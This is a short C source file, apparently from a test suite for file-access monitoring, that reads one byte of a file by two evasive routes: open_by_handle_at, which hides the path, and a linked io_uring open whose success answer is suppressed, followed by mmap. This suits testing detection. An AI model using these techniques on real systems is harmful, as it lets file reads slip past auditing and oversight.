/* SPDX-License-Identifier: Apache-2.0 */
/* Opens any file, in ways that show no path or no answer. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"
#include "ring.h"

/* By a number that the file system gives the file: open_by_handle_at(2). */
static int read_by_handle(const char *path)
{
	struct file_handle *handle = malloc(sizeof(*handle) + MAX_HANDLE_SZ);
	int mount, folder, fd, length;
	char byte;

	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, handle, &mount, AT_SYMLINK_FOLLOW))
		return -1;
	folder = open(dirname(strdupa(path)), O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(folder, handle, O_RDONLY);
	length = fd < 0 ? -1 : read(fd, &byte, 1);
	close_again(fd);
	close_again(folder);
	free(handle);
	return length;
}

/* The ring opens it and says nothing, and the descriptor is mapped. */
static int read_by_mapping(const char *path)
{
	struct io_uring_sqe chain[2] = {
		{ .opcode = IORING_OP_OPENAT, .flags = IOSQE_CQE_SKIP_SUCCESS | IOSQE_IO_LINK },
		{ .opcode = IORING_OP_NOP },
	};
	int folder = open(dirname(strdupa(path)), O_PATH | O_DIRECTORY);
	const char *name = basename(strdupa(path));
	struct stat status;
	struct ring ring;
	volatile char *page;
	char byte;
	int fd;

	/* The kernel knows the name then, and needs no worker to open it. */
	if (fstatat(folder, name, &status, 0) || set_up_ring(&ring, 0))
		return -1;
	chain[0].fd = folder;
	chain[0].addr = (unsigned long)name;
	fd = next_descriptor();
	if (submit(&ring, chain, 2, 1) || next_answer(&ring) < 0)
		return -1;
	page = mmap(NULL, PAGE_BYTES, PROT_READ, MAP_PRIVATE, fd, 0);
	if ((void *)page == MAP_FAILED)
		return -1;
	byte = *page;
	return sizeof(byte);
}

int read_in_way(const char *way, const char *path)
{
	int length = -1;

	errno = EINVAL;
	if (strcmp(way, "handle") == 0)
		length = read_by_handle(path);
	if (strcmp(way, "mapping") == 0)
		length = read_by_mapping(path);
	if (length == 1)
		return 0;
	perror(way);
	return 1;
}
